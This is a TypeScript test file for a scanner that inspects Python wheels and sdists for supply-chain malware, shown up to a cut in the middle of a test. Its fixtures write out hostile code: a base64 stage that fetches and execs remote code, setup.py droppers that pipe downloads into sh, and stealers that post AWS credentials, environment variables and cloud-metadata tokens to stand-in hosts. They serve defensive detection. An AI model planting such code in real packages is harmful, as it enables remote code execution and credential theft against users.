import assert from "node:assert/strict";
import { createHash, randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import type { Finding, Severity } from "../../check.js";
import {
  MALFORMED_SDIST_KINDS,
  MALFORMED_ZIP_KINDS,
  buildMalformedSdist,
  buildMalformedZip,
  buildSdist,
  sharedDataDir,
  writeArtifact,
  writeWheel,
  type SdistSpec,
  type WheelSpec,
} from "../../../../test/helpers/wheel-builder.js";
import {
  analyzeArtifact,
  runArtifact,
  shadowedCommand,
  type AnalyzeArtifactOptions,
  type ArtifactReport,
} from "./artifact.js";

let dir: string;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), "portcullis-artifact-"));
});

after(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function analyzeWheel(spec: WheelSpec, options?: AnalyzeArtifactOptions): Promise<ArtifactReport> {
  const { path, filename } = await writeWheel(dir, spec);
  return analyzeArtifact(path, filename, options);
}

async function analyzeSdist(spec: SdistSpec): Promise<ArtifactReport> {
  const built = await buildSdist(spec);
  return analyzeArtifact(await writeArtifact(dir, built), built.filename);
}

function only(report: ArtifactReport, kind: string): Finding {
  const found = report.findings.filter((f) => f.kind === kind);
  assert.equal(
    found.length,
    1,
    `one ${kind} finding expected, got ${JSON.stringify(report.findings, null, 2)}`,
  );
  return found[0]!;
}

function kinds(report: ArtifactReport): string[] {
  return report.findings.map((f) => `${f.kind}:${f.severity}`).sort();
}

const RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3 };

// The shape of the LiteLLM 1.82.8 payload: the .pth decodes and runs a second stage that spawns a
// detached Python process, at every interpreter start.
const STAGE_TWO = Buffer.from(
  [
    "import subprocess, sys",
    "subprocess.Popen([sys.executable, '-c', 'import urllib.request as u; exec(u.urlopen(\"https://models.litellm.cloud/x\").read())'],",
    "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)",
  ].join("\n"),
).toString("base64");
const LITELLM_PTH = `import os, subprocess, sys; exec(__import__('base64').b64decode('${STAGE_TWO}'))\n`;

describe("pth-exec", () => {
  test("flags a litellm_init.pth that decodes and execs a payload as critical, with file and line", async () => {
    const report = await analyzeWheel({
      name: "litellm",
      version: "1.82.8",
      files: {
        "litellm/__init__.py": "__version__ = '1.82.8'\n",
        "litellm_init.pth": `# generated\n${LITELLM_PTH}`,
      },
    });
    const finding = only(report, "pth-exec");
    assert.equal(finding.severity, "critical");
    const [evidence] = finding.evidence!;
    assert.equal(evidence!.file, "litellm_init.pth");
    assert.equal(evidence!.line, 2);
    assert.ok(evidence!.excerpt!.startsWith("import os, subprocess, sys; exec("));
    assert.ok(evidence!.excerpt!.length <= 200);
    assert.match(evidence!.detail!, /exec/);
    assert.match(evidence!.detail!, /base64/);
    assert.deepEqual(report.shape.pthFiles, ["litellm_init.pth"]);
    assert.equal(runArtifact(report).status, "fail");
  });

  test("rates an executed line that only imports as high, and ignores path lines and comments", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": "",
        "demo_paths.pth": "# paths\n/opt/demo/lib\n\n  import not_executed_because_indented\nvendor\n",
        "demo_hook.pth": "vendor\nimport demo_hook\n",
      },
    });
    const finding = only(report, "pth-exec");
    assert.equal(finding.severity, "high");
    assert.deepEqual(
      finding.evidence!.map((e) => [e.file, e.line]),
      [["demo_hook.pth", 2]],
    );
    assert.deepEqual(report.shape.pthFiles, ["demo_hook.pth", "demo_paths.pth"]);
  });

  test("treats import\\t, CR line ends and a BOM as site does", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo.py": "", "x.pth": "\ufeffpath\rimport\tos; os.system('id')\r\n" },
    });
    const finding = only(report, "pth-exec");
    assert.equal(finding.severity, "critical");
    assert.equal(finding.evidence![0]!.line, 2);
  });

  test("ignores .pth files that site never reads: model weights inside a package", async () => {
    const report = await analyzeWheel({
      name: "torchy",
      version: "1.0",
      files: {
        "torchy/__init__.py": "",
        "torchy/models/alex.pth": Buffer.from([0x80, 0x02, 0x8a, 0x0a, 0x6c, 0xfc, 0x00]),
        "torchy/models/text.pth": "import os; os.system('id')\n",
      },
    });
    assert.deepEqual(report.findings, []);
    assert.deepEqual(report.shape.pthFiles, []);
  });

  test("reads .pth files installed from .data/purelib", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo.py": "", "demo-1.0.data/purelib/evil.pth": LITELLM_PTH },
    });
    assert.equal(only(report, "pth-exec").severity, "critical");
    assert.deepEqual(report.shape.pthFiles, ["evil.pth"]);
  });

  test("reads .pth files in any *.data/purelib|platlib, as pip installs every top-level *.data", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo.py": "", "zzz.data/platlib/evil.pth": LITELLM_PTH },
    });
    assert.equal(only(report, "pth-exec").severity, "critical");
    assert.equal(only(report, "pth-exec").evidence![0]!.file, "zzz.data/platlib/evil.pth");
    const mismatch = only(report, "data-dir-mismatch");
    assert.equal(mismatch.severity, "high");
    assert.match(mismatch.message, /zzz\.data/);
    assert.deepEqual(report.shape.pthFiles, ["evil.pth"]);
    // The .dist-info's own .data directory, spelled as the spec allows, is no mismatch.
    const own = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo.py": "", "Demo-1.0.data/purelib/demo_extra.py": "" },
    });
    assert.deepEqual(own.findings, []);
  });

  test("reads .pth files the data scheme puts in site-packages, and any .pth under *.data", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo.py": "",
        "demo-1.0.data/data/lib/python3.11/site-packages/a.pth": "import os; os.system('id')\n",
        "demo-1.0.data/data/Lib/site-packages/b.pth": "import demo\n",
        "demo-1.0.data/data/local/lib/python3.12/dist-packages/c.pth": "import demo\n",
        "demo-1.0.data/headers/d.pth": "import demo\n",
        "demo-1.0.data/data/share/demo/paths.pth": "/opt/demo\n",
        "demo-1.0.data/data/lib/python3.11/site-packages/hidden/__init__.py": "",
      },
    });
    assert.deepEqual(report.shape.topLevel, ["demo", "hidden"]);
    assert.deepEqual(report.findings.map((f) => [f.kind, f.evidence![0]!.file, f.severity]).sort(), [
      ["pth-exec", "demo-1.0.data/data/Lib/site-packages/b.pth", "high"],
      ["pth-exec", "demo-1.0.data/data/lib/python3.11/site-packages/a.pth", "critical"],
      ["pth-exec", "demo-1.0.data/data/local/lib/python3.12/dist-packages/c.pth", "high"],
      ["pth-exec", "demo-1.0.data/headers/d.pth", "high"],
    ]);
    assert.deepEqual(report.shape.pthFiles, [
      "a.pth",
      "b.pth",
      "c.pth",
      "data/share/demo/paths.pth",
      "headers/d.pth",
    ]);
  });

  test("splits lines as Python 3.13+ does too: VT, FF, FS-RS, NEL, U+2028, U+2029", async () => {
    for (const [label, sep] of [
      ["form feed", "\x0c"],
      ["vertical tab", "\x0b"],
      ["\\x1c", "\x1c"],
      ["\\x1d", "\x1d"],
      ["\\x1e", "\x1e"],
      ["NEL", "\u0085"],
      ["NEL", "\x85"],
      ["U+2028", "\u2028"],
      ["U+2029", "\u2029"],
    ] as const) {
      // "\x85" alone is the latin-1 NEL 3.13 sees when it falls back to the locale's encoding.
      const bytes =
        sep === "\x85"
          ? Buffer.from(`/opt/demo # path${sep}import os; os.system('id')\n`, "latin1")
          : Buffer.from(`# a comment${sep}import os; os.system('id')\n`);
      const report = await analyzeWheel({
        name: "demo",
        version: "1.0",
        files: { "demo.py": "", "demo.pth": bytes },
      });
      const finding = only(report, "pth-exec");
      assert.equal(finding.severity, "critical", label);
      assert.equal(finding.evidence![0]!.line, 1, label);
      const detail = finding.evidence![0]!.detail!;
      assert.ok(
        detail.includes(`after a ${label} that ends lines only for Python 3.13+`),
        `${label}: ${detail}`,
      );
    }
    // Up to 3.12 the line runs whole, and a form feed is whitespace to the tokenizer.
    const allowed = await analyzeWheel({
      name: "pywin32",
      version: "311",
      files: { "pywin32_bootstrap.py": "", "pywin32.pth": "import pywin32_bootstrap\x0c; import os\n" },
    });
    assert.equal(only(allowed, "pth-exec").severity, "high");
  });

  const SETUPTOOLS_PTH =
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";

  test("allows setuptools' own distutils-precedence.pth as low", async () => {
    const report = await analyzeWheel({
      name: "setuptools",
      version: "80.0.0",
      files: {
        "setuptools/__init__.py": "",
        "_distutils_hack/__init__.py": "",
        "distutils-precedence.pth": SETUPTOOLS_PTH,
      },
    });
    const finding = only(report, "pth-exec");
    assert.equal(finding.severity, "low");
    assert.match(finding.message, /distutils shim/);
    assert.equal(runArtifact(report).status, "pass");
  });

  test("does not extend setuptools' allowance to another project or to altered content", async () => {
    const other = await analyzeWheel({
      name: "setuptoolz",
      version: "1.0",
      files: { "setuptoolz.py": "", "distutils-precedence.pth": SETUPTOOLS_PTH },
    });
    assert.equal(only(other, "pth-exec").severity, "high");
    const altered = await analyzeWheel({
      name: "setuptools",
      version: "80.0.1",
      files: {
        "setuptools/__init__.py": "",
        "distutils-precedence.pth": `${SETUPTOOLS_PTH.trimEnd()} __import__('os').system('curl x|sh')\n`,
      },
    });
    assert.equal(only(altered, "pth-exec").severity, "critical");
  });

  test("allows setuptools namespace loaders as low, not editable-install finders", async () => {
    const nspkg =
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m = m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
    const report = await analyzeWheel({
      name: "sphinxcontrib-jsmath",
      version: "1.0.1",
      files: {
        "sphinxcontrib/jsmath/__init__.py": "",
        "sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth": nspkg,
      },
    });
    assert.deepEqual(kinds(report), ["pth-exec:low"]);
    // An editable install is made on the user's machine: a downloaded one hides a module that
    // runs at every start behind a line that looks routine.
    const editable = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "__editable__.demo-1.0.pth":
          "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n",
        "__editable___demo_1_0_finder.py": "def install():\n    pass\n",
      },
    });
    assert.deepEqual(kinds(editable), ["pth-exec:high"]);
    const tampered = await analyzeWheel({
      name: "nsdemo",
      version: "1.0",
      files: {
        "nsdemo/a/__init__.py": "",
        "nsdemo-1.0-nspkg.pth": nspkg.replace("(p not in mp)", "os.system('id')"),
      },
    });
    assert.equal(only(tampered, "pth-exec").severity, "critical");
  });

  test("allows coverage's subprocess hook only in coverage", async () => {
    const hook =
      'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n';
    const coverage = await analyzeWheel({
      name: "coverage",
      version: "7.16.2",
      tag: "cp311-cp311-manylinux_2_28_x86_64",
      files: { "coverage/__init__.py": "", "a1_coverage.pth": hook },
    });
    assert.equal(only(coverage, "pth-exec").severity, "low");
    const impostor = await analyzeWheel({
      name: "covrage",
      version: "1.0",
      files: { "covrage/__init__.py": "", "a1_coverage.pth": hook },
    });
    assert.equal(only(impostor, "pth-exec").severity, "critical");
  });
});

describe("startup-module", () => {
  test("flags sitecustomize and usercustomize that site imports at every start", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo.py": "", "sitecustomize.py": "import demo\n" },
    });
    const finding = only(report, "startup-module");
    assert.equal(finding.severity, "high");
    assert.equal(finding.evidence![0]!.file, "sitecustomize.py");
    assert.equal(runArtifact(report).status, "fail");

    const evil = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo.py": "",
        "demo-1.0.data/purelib/usercustomize/__init__.py": "import subprocess\nsubprocess.Popen(['sh'])\n",
        "demo-1.0.data/data/lib/python3.12/site-packages/sitecustomize.py":
          "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n",
        "sitecustomize.cpython-311-x86_64-linux-gnu.so": Buffer.from("\x7fELF\x02\x01\x01", "latin1"),
      },
    });
    const findings = evil.findings.filter((f) => f.kind === "startup-module");
    assert.deepEqual(findings.map((f) => [f.evidence![0]!.file, f.severity]).sort(), [
      ["demo-1.0.data/data/lib/python3.12/site-packages/sitecustomize.py", "critical"],
      ["demo-1.0.data/purelib/usercustomize/__init__.py", "critical"],
      ["sitecustomize.cpython-311-x86_64-linux-gnu.so", "high"],
    ]);
    // A module that setuptools' distutils-precedence.pth imports, shipped by another project.
    const hack = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo.py": "", "_distutils_hack/__init__.py": "def add_shim():\n    pass\n" },
    });
    assert.match(only(hack, "startup-module").message, /another project's \.pth imports _distutils_hack/);
    // exec of decoded data in a startup module is critical, as in setup.py.
    assert.equal(only(evil, "obfuscated-exec").severity, "critical");
    // site never imports one inside a package.
    const nested = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo/__init__.py": "", "demo/vendored/sitecustomize.py": "import os\n" },
    });
    assert.deepEqual(nested.findings, []);
  });
});

/** A CPython 3.12 `.pyc`: magic, PEP 552 flags, 8 bytes of mtime/size or hash, then (here dummy) code. */
function pyc(flags = 0): Buffer {
  const bytes = Buffer.alloc(40);
  bytes.writeUInt32LE(0x0a0d0dcb, 0);
  bytes.writeUInt32LE(flags, 4);
  bytes.write("\u00e3 hidden payload", 16, "latin1");
  return bytes;
}

describe("bytecode-only", () => {
  test("flags importable code shipped only as bytecode, which the scan cannot read", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo/__init__.pyc": pyc(), "demo/util.py": "X = 1\n" },
    });
    const finding = only(report, "bytecode-only");
    assert.equal(finding.severity, "medium");
    assert.deepEqual(
      finding.evidence!.map((e) => [e.file, e.detail]),
      [["demo/__init__.pyc", "imported from bytecode alone: no source beside it"]],
    );
    assert.equal(runArtifact(report).status, "warn");
  });

  test("flags bytecode outside __pycache__, in *.data site paths, and cached bytecode without its source", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": "",
        "demo/mod.py": "X = 1\n",
        "demo/mod.pyc": pyc(),
        "demo-1.0.data/purelib/other/__init__.pyc": pyc(),
        "demo-1.0.data/data/lib/python3.12/site-packages/third.pyc": pyc(),
        "demo/__pycache__/gone.cpython-312.pyc": pyc(),
      },
    });
    const finding = only(report, "bytecode-only");
    assert.equal(finding.severity, "medium");
    assert.deepEqual(finding.evidence!.map((e) => [e.file, e.detail]).sort(), [
      [
        "demo-1.0.data/data/lib/python3.12/site-packages/third.pyc",
        "imported from bytecode alone: no source beside it",
      ],
      ["demo-1.0.data/purelib/other/__init__.pyc", "imported from bytecode alone: no source beside it"],
      ["demo/__pycache__/gone.cpython-312.pyc", "cached bytecode without its source"],
      ["demo/mod.pyc", "bytecode outside __pycache__, next to its source"],
    ]);
  });

  test("rates unchecked hash-based bytecode that replaces its source as high", async () => {
    // PEP 552: flags 0b01 is hash-based with check_source off: run without comparing it to demo/mod.py.
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": "",
        "demo/mod.py": "X = 1\n",
        "demo/__pycache__/mod.cpython-312.pyc": pyc(0b01),
      },
    });
    const finding = only(report, "bytecode-only");
    assert.equal(finding.severity, "high");
    assert.deepEqual(
      finding.evidence!.map((e) => e.file),
      ["demo/__pycache__/mod.cpython-312.pyc"],
    );
    assert.equal(runArtifact(report).status, "fail");
  });

  test("leaves compiled caches beside their source alone, as numpy and PySide6 ship them", async () => {
    for (const flags of [0, 0b11]) {
      const report = await analyzeWheel({
        name: "demo",
        version: "1.0",
        files: {
          "demo/__init__.py": "",
          "demo/__pycache__/__init__.cpython-311.pyc": pyc(flags),
          "demo/__pycache__/__init__.cpython-312.opt-1.pyc": pyc(flags),
          "__pycache__/top.cpython-312.pyc": pyc(flags),
          "top.py": "",
        },
      });
      assert.deepEqual(report.findings, [], `flags ${flags}`);
    }
  });

  test("reports sitecustomize bytecode once, as a high startup-module, and ignores sdists", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo.py": "", "sitecustomize.pyc": pyc(), "_distutils_hack/__init__.pyc": pyc() },
    });
    assert.deepEqual(kinds(report), ["startup-module:high", "startup-module:high"]);
    const sdist = await analyzeSdist({ name: "demo", version: "1.0", files: { "demo/__init__.pyc": pyc() } });
    assert.deepEqual(kinds(sdist), []);
  });
});

describe("download-exec", () => {
  test("flags module code that executes what it downloads as high", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": [
          "import requests, urllib.request",
          "exec(requests.get('https://evil.example/p').text)",
          "exec(urllib.request.urlopen(URL).read())",
          "resp = httpx.get(URL)",
          "code = resp.text",
          "exec(compile(code, 'x', 'exec'))",
          "",
        ].join("\n"),
      },
    });
    const finding = only(report, "download-exec");
    assert.equal(finding.severity, "high");
    assert.deepEqual(finding.evidence!.map((e) => e.line).sort(), [2, 3, 6]);
    assert.equal(runArtifact(report).status, "fail");
    // Downloads that are not executed, far-away execs, comments and methods do not count.
    const quiet = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": [
          "import requests",
          "data = requests.get(URL).json()",
          "",
          "",
          "",
          "",
          "exec(open('demo/_version.py').read())",
          "# exec(requests.get(u).text) would be bad",
          "model.eval(requests)",
          // CLIs tell users how to install tools this way: a string, not code run unasked.
          "HINT = 'install uv: curl -LsSf https://astral.sh/uv/install.sh | sh'",
          "",
        ].join("\n"),
      },
    });
    assert.deepEqual(quiet.findings, []);
  });

  test("rates it critical in setup.py and in startup modules", async () => {
    const startup = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo.py": "",
        "sitecustomize.py": "import urllib.request as u\nexec(u.urlopen('https://x').read())\n",
      },
    });
    assert.equal(only(startup, "download-exec").severity, "critical");
    const sdist = await analyzeSdist({
      name: "demo",
      version: "1.0",
      files: {
        "setup.py":
          "import requests, os\nexec(requests.get('https://x').text)\nos.system('curl -s https://x/i | sh')\n",
      },
    });
    const finding = only(sdist, "download-exec");
    assert.equal(finding.severity, "critical");
    assert.deepEqual(
      finding.evidence!.map((e) => [e.line, e.detail]),
      [
        [3, "download piped into a shell"],
        [2, "executes what it downloads"],
      ],
    );
  });
});

describe("record-mismatch", () => {
  test("fails a wheel whose RECORD is missing, leaves a file out, or has a wrong hash or size", async () => {
    for (const mode of ["missing", "unlisted-file", "wrong-hash", "wrong-size"] as const) {
      const report = await analyzeWheel({ name: "demo", version: "1.0", record: mode });
      const finding = only(report, "record-mismatch");
      assert.equal(finding.severity, "high", mode);
      assert.equal(runArtifact(report).status, "fail", mode);
    }
    const unlisted = await analyzeWheel({ name: "demo", version: "1.0", record: "unlisted-file" });
    assert.deepEqual(only(unlisted, "record-mismatch").evidence, [
      {
        file: "demo/__init__.py",
        excerpt: "demo/__init__.py is in the archive but not in RECORD",
        detail: "NOT_IN_RECORD",
      },
    ]);
  });

  test("checks hex digests as hex, with a low note (gmsh writes them)", async () => {
    const init = "x = 1\n";
    const hex = (text: string) => createHash("sha256").update(text).digest("hex");
    const record = (initHash: string) =>
      `demo/__init__.py,sha256=${initHash},${init.length}\ndemo-1.0.dist-info/RECORD,,\n`;
    const files = (initHash: string) => ({
      "demo/__init__.py": init,
      "demo-1.0.dist-info/RECORD": record(initHash),
    });
    // METADATA and WHEEL are not listed in this hand-written RECORD: two files not in RECORD.
    const good = await analyzeWheel({
      name: "demo",
      version: "1.0",
      record: "missing",
      files: files(hex(init)),
    });
    const findings = good.findings.filter((f) => f.kind === "record-mismatch");
    assert.deepEqual(
      findings.map((f) => [f.severity, f.message]),
      [
        ["low", "RECORD writes 1 hash in hex, not the urlsafe base64 the spec asks for (checked as hex)"],
        ["high", "RECORD does not vouch for the wheel's files: 2 file(s) not in RECORD"],
      ],
    );
    const bad = await analyzeWheel({
      name: "demo",
      version: "1.0",
      record: "missing",
      files: files(hex("y = 2\n")),
    });
    assert.deepEqual(
      bad.findings.filter((f) => f.kind === "record-mismatch").map((f) => f.severity),
      ["low", "high"],
    );
    assert.match(bad.findings.find((f) => f.severity === "high")!.message, /1 hash mismatch/);
  });

  test("rates a listed file that is absent as medium, and a consistent RECORD as nothing", async () => {
    const phantom = await analyzeWheel({ name: "demo", version: "1.0", record: "phantom-file" });
    assert.equal(only(phantom, "record-mismatch").severity, "medium");
    const good = await analyzeWheel({ name: "demo", version: "1.0" });
    assert.deepEqual(good.findings, []);
    // sdists have no RECORD to check.
    const sdist = await analyzeSdist({ name: "demo", version: "1.0" });
    assert.deepEqual(
      sdist.findings.filter((f) => f.kind === "record-mismatch"),
      [],
    );
  });
});

describe("install-time-code", () => {
  const SETUP_PY = [
    "import subprocess",
    "import urllib.request",
    "from setuptools import setup",
    "",
    "# fetch the 'native helper' before building",
    "data = urllib.request.urlopen('https://evil.example/helper.sh').read()",
    "open('helper.sh', 'wb').write(data)",
    "subprocess.call(['sh', 'helper.sh'])",
    "",
    "setup(name='dropper', version='1.0')",
    "",
  ].join("\n");

  test("flags a setup.py that downloads and runs code, with evidence lines", async () => {
    const report = await analyzeSdist({ name: "dropper", version: "1.0", files: { "setup.py": SETUP_PY } });
    const found = report.findings.filter((f) => f.kind === "install-time-code");
    const network = found.find((f) => f.evidence?.[0]?.detail === "network");
    const process = found.find((f) => f.evidence?.[0]?.detail === "process");
    assert.equal(network?.severity, "critical");
    assert.deepEqual(
      network!.evidence!.map((e) => [e.file, e.line]),
      [
        ["dropper-1.0/setup.py", 2],
        ["dropper-1.0/setup.py", 6],
      ],
    );
    assert.equal(process?.severity, "medium");
    assert.deepEqual(
      process!.evidence!.map((e) => e.line),
      [8],
    );
    assert.equal(process!.evidence![0]!.excerpt, "subprocess.call(['sh', 'helper.sh'])");
    assert.equal(runArtifact(report).status, "fail");
  });

  test("rates the usual exec(open(version file).read()) as low", async () => {
    const report = await analyzeSdist({
      name: "plain",
      version: "1.0",
      files: {
        "setup.py":
          "from setuptools import setup\nexec(open('plain/_version.py').read())\nsetup(name='plain', version=__version__)\n",
        "plain/__init__.py": "",
        "plain/_version.py": "__version__ = '1.0'\n",
      },
    });
    assert.deepEqual(kinds(report), ["install-time-code:low"]);
    assert.equal(runArtifact(report).status, "pass");
  });

  test("flags writes to the user's home and persistence files", async () => {
    const report = await analyzeSdist({
      name: "persist",
      version: "1.0",
      files: {
        "setup.py":
          "import os\nfrom setuptools import setup\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('alias sudo=evil\\n')\nsetup(name='persist')\n",
      },
    });
    const finding = only(report, "install-time-code");
    assert.equal(finding.severity, "high");
    assert.equal(finding.evidence![0]!.line, 3);
  });

  test("applies only to an sdist's own setup.py", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo/__init__.py": "", "demo/setup.py": "import subprocess\nsubprocess.call(['make'])\n" },
    });
    assert.deepEqual(report.findings, []);
  });
});

describe("obfuscated-exec", () => {
  const payload = Buffer.from("print('pwned')\n").toString("base64");

  test("flags exec of base64, zlib, marshal and codecs decoding", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": [
          "import base64, zlib, marshal, codecs",
          `exec(base64.b64decode('${payload}'))`,
          "eval(compile(zlib.decompress(blob), '<x>', 'exec'))",
          "exec(marshal.loads(code))",
          `exec(codecs.decode('${payload}', 'base64'))`,
          "exec(__import__('zlib').decompress(data))",
          "exec(''.join(map(chr, [112, 114, 105, 110, 116])))",
          "exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')",
          "",
        ].join("\n"),
      },
    });
    const finding = only(report, "obfuscated-exec");
    assert.equal(finding.severity, "high");
    assert.deepEqual(
      finding.evidence!.map((e) => e.line),
      [2, 3, 4, 5, 6],
    );
    assert.equal(finding.evidence![0]!.file, "demo/__init__.py");
  });

  test("rates exec of a long embedded base64 blob as critical, also when decoded on an earlier line", async () => {
    const blob = Buffer.alloc(2048, "import os\n").toString("base64");
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": `import base64\n_p = base64.b64decode("${blob}")\nexec(_p)\n`,
        "demo/other.py": "import base64\ncode = base64.b64decode(data)\n\nexec(code)\n",
      },
    });
    const [critical, high] = report.findings
      .filter((f) => f.kind === "obfuscated-exec")
      .sort((a, b) => RANK[b.severity!] - RANK[a.severity!]);
    assert.equal(critical!.severity, "critical");
    assert.equal(critical!.evidence![0]!.line, 3);
    assert.ok(critical!.evidence!.every((e) => (e.excerpt ?? "").length <= 200));
    assert.equal(high!.severity, "high");
    assert.deepEqual(
      high!.evidence!.map((e) => [e.file, e.line]),
      [["demo/other.py", 4]],
    );
  });

  test("ignores comments, docstrings, methods named eval, and ordinary exec", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/__init__.py": [
          '"""Never do exec(base64.b64decode(x)) in a library."""',
          "# exec(zlib.decompress(data)) is how droppers hide",
          "model.eval()",
          "df.eval(base64.b64decode(q))",
          "exec(open('demo/_version.py').read())",
          "pattern = re.compile(r'\\d+')",
          "",
        ].join("\n"),
      },
    });
    assert.deepEqual(report.findings, []);
  });

  test("flags source encodings that hide code, and look-alike letters Python folds", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/a.py": "#!/usr/bin/env python\n# -*- coding: utf-7 -*-\n+AGUAeABlAGM-('print(1)')\n",
        "demo/b.py": `import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('${payload}'))\n`,
      },
    });
    const found = report.findings.filter((f) => f.kind === "obfuscated-exec");
    assert.deepEqual(found.map((f) => [f.evidence![0]!.file, f.evidence![0]!.line]).sort(), [
      ["demo/a.py", 2],
      ["demo/b.py", 2],
    ]);
    assert.match(
      found.find((f) => f.evidence![0]!.file === "demo/b.py")!.evidence![0]!.detail!,
      /look-alike/,
    );
  });
});

describe("credential-access", () => {
  const STEALER = [
    "import os",
    "import requests",
    "",
    "def _sync():",
    "    path = os.path.expanduser('~/.aws/credentials')",
    "    with open(path) as f:",
    "        secrets = f.read()",
    "    requests.post('https://collector.example/upload', data=secrets)",
    "",
  ].join("\n");

  test("rates a credential read near a network send as critical", async () => {
    const report = await analyzeWheel({ name: "demo", version: "1.0", files: { "demo/sync.py": STEALER } });
    const finding = only(report, "credential-access");
    assert.equal(finding.severity, "critical");
    assert.deepEqual(
      finding.evidence!.map((e) => [e.file, e.line, e.detail]),
      [
        ["demo/sync.py", 5, "credential read"],
        ["demo/sync.py", 8, "network send"],
      ],
    );
    assert.equal(finding.evidence![0]!.excerpt, "path = os.path.expanduser('~/.aws/credentials')");
  });

  test("rates an environment dump posted away as critical", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/t.py":
          "import json, os, urllib.request\nbody = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen('https://x.example', body)\n",
      },
    });
    assert.equal(only(report, "credential-access").severity, "critical");
  });

  test("rates a credential read alone as medium, and a far-away send does not pair", async () => {
    const far = `${STEALER.split("\n").slice(0, 7).join("\n")}\n${"\n".repeat(60)}requests.post(url, data=other)\n`;
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: { "demo/a.py": "import os\nTOKEN = os.environ.get('GITHUB_TOKEN')\n", "demo/b.py": far },
    });
    assert.deepEqual(kinds(report), ["credential-access:medium", "credential-access:medium"]);
    assert.equal(runArtifact(report).status, "warn");
  });

  test("pairs a cloud metadata endpoint only with a send that carries data away", async () => {
    const imds = "http://169.254.169.254/metadata/identity/oauth2/token";
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        // How cloud SDKs fetch a token: a GET to the endpoint itself.
        "demo/azure.py": `from urllib.request import Request, urlopen\nreq = Request("${imds}", headers={"Metadata": "true"})\nwith urlopen(req, timeout=5) as r:\n    token = r.read()\n`,
        // How stealers use it: read the token, then post it elsewhere.
        "demo/steal.py": `import requests\ntoken = requests.get("${imds}").text\nrequests.post("https://collector.example", data=token)\n`,
        "demo/curl.py": `import os\nos.system('curl -s http://169.254.169.254/latest/meta-data/iam/ | curl -d @- https://x.example')\n`,
      },
    });
    const severities = Object.fromEntries(
      report.findings.map((f) => [f.evidence![0]!.file, `${f.kind}:${f.severity}`]),
    );
    assert.deepEqual(severities, {
      "demo/azure.py": "credential-access:medium",
      "demo/steal.py": "credential-access:critical",
      "demo/curl.py": "credential-access:critical",
    });
  });

  test("counts secret variables when read, not when set or named in a message", async () => {
    const report = await analyzeWheel({
      name: "demo",
      version: "1.0",
      files: {
        "demo/a.py":
          "import os, requests\nos.environ['AWS_SECRET_ACCESS_KEY'] = 'test'\nprint('set GITHUB_TOKEN first')\nrequests.post(url, json={})\n",
        "demo/b.py":
          "import os, requests\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post(url, json={'k': key})\n",
      },
    });
    assert.deepEqual(kinds(report), ["credential-access:critical"]);
    assert.equal(report.findings[0]!.evidence![0]!.file, "demo/b.py");
  });

  test("rates credential handling in test code two levels lower", async () => {
